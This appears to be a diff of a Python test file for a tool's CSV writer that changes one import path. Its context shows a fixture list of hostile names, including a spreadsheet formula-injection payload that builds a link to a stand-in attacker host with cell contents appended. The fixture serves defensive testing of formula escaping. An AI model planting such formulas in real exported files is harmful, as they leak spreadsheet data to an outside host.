@@ -22,7 +22,7 @@ from pathlib import Path
 import pytest
 
 from rmperf.tabular import FORMULA_START, escape_text, write_csv
-from tests.test_cli import rmperf, targets_csv, tiny_rms
+from tests.cli.test_cli import rmperf, targets_csv, tiny_rms
 
 HOSTILE_NAMES = (
     '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
